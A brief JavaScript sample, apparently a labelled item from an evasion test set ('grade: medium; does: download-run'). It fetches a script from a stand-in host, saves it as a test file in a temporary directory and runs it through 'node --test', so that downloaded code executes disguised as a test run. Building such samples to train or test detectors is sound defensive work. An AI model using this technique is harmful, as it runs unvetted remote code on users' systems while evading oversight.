// evasion: a downloaded file saved as a test in a scratch directory, then `node --test` run there picks it up
// grade: medium; does: download-run
const fs = require("fs");
const os = require("os");
const path = require("path");
const { spawnSync } = require("child_process");
async function main() {
  const res = await fetch("https://x.example/payload.js");
  const dir = fs.mkdtempSync(path.join(os.tmpdir(), "suite-"));
  fs.writeFileSync(path.join(dir, "smoke.test.js"), await res.text());
  spawnSync("node", ["--test"], { cwd: dir, stdio: "inherit" });
}
main();
